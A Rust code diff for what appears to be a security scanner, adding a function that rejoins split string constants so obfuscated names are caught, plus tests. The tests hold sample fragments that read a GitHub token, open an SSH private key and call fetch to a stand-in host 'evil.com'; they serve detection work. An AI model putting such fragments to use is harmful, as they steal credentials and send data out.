@@ -189,6 +189,48 @@ fn pathlike(s: &str) -> bool {
         && !s.starts_with('-')
 }
 
+/// `code` with string constants joined: `'GITHUB_' + 'TOKEN'` (`.` in Perl and PHP, also
+/// Python's `'a' 'b'`) becomes `'GITHUB_TOKEN'`, so that names split to slip past a pattern are
+/// whole again for the scan and for the rules that read the code.
+pub fn fold_constants(code: &str, lang: Lang) -> String {
+    static PLUS: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"'((?:[^'\\\n]|\\.)*)'\s*\+\s*'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)"\s*\+\s*"((?:[^"\\\n]|\\.)*)""#)
+            .expect("valid regex")
+    });
+    static DOT: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"'((?:[^'\\\n]|\\.)*)'\s*\.\s*'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)"\s*\.\s*"((?:[^"\\\n]|\\.)*)""#)
+            .expect("valid regex")
+    });
+    static JUXTAPOSED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"'((?:[^'\\\n]|\\.)*)'[ \t]+'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)"[ \t]+"((?:[^"\\\n]|\\.)*)""#)
+            .expect("valid regex")
+    });
+    let joiners: &[&Regex] = match lang {
+        Lang::Python => &[&PLUS, &JUXTAPOSED],
+        Lang::Js | Lang::Ruby => &[&PLUS],
+        Lang::Perl | Lang::Php => &[&DOT],
+        Lang::Awk => &[&JUXTAPOSED],
+    };
+    let mut text = code.to_owned();
+    // Each pass joins pairs; a chain of n pieces takes about log n passes.
+    for _ in 0..8 {
+        let before = text.len();
+        for re in joiners {
+            text = re
+                .replace_all(&text, |c: &regex::Captures| match (c.get(1), c.get(3)) {
+                    (Some(a), _) => format!("'{}{}'", a.as_str(), &c[2]),
+                    (_, Some(a)) => format!("\"{}{}\"", a.as_str(), &c[4]),
+                    _ => c[0].to_owned(),
+                })
+                .into_owned();
+        }
+        if text.len() == before {
+            break;
+        }
+    }
+    text
+}
+
 /// Scans `code` written in `lang`. Code it evaluates is scanned too, a few levels deep.
 pub fn scan(code: &str, lang: Lang) -> Scan {
     let mut out = Scan::default();
@@ -290,7 +332,7 @@ fn eval_calls(code: &str, lang: Lang, calls: &Regex, out: &mut Scan, depth: usiz
         let args = call_args(code, m.end());
         if first_is_literal(args) {
             for lit in literals(args).into_iter().take(1) {
-                scan_into(&lit, lang, out, depth + 1);
+                scan_into(&fold_constants(&lit, lang), lang, out, depth + 1);
             }
         } else {
             out.dynamic = Some("inline code evaluates code built at run time".to_owned());
@@ -357,6 +399,31 @@ fn open_for_writing(code: &str, out: &mut Scan) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn string_constants_are_joined_before_the_scan() {
+        assert_eq!(
+            fold_constants("os.environ['GITHUB_'+'TOKEN'] + x", Lang::Python),
+            "os.environ['GITHUB_TOKEN'] + x"
+        );
+        assert_eq!(
+            fold_constants(r#"fetch("http://e" + "vil" + ".com/" + path)"#, Lang::Js),
+            r#"fetch("http://evil.com/" + path)"#
+        );
+        assert_eq!(
+            fold_constants(
+                "open(os.path.join(h, '.s' 'sh', 'id_' + 'rsa'))",
+                Lang::Python
+            ),
+            "open(os.path.join(h, '.ssh', 'id_rsa'))"
+        );
+        assert_eq!(
+            fold_constants(r#"$f = "/.s" . "sh";"#, Lang::Perl),
+            r#"$f = "/.ssh";"#
+        );
+        // Different quotes are left alone.
+        assert_eq!(fold_constants(r#"'a' + "b""#, Lang::Python), r#"'a' + "b""#);
+    }
 
     #[test]
     fn python_literals_calls_and_dynamic_code() {
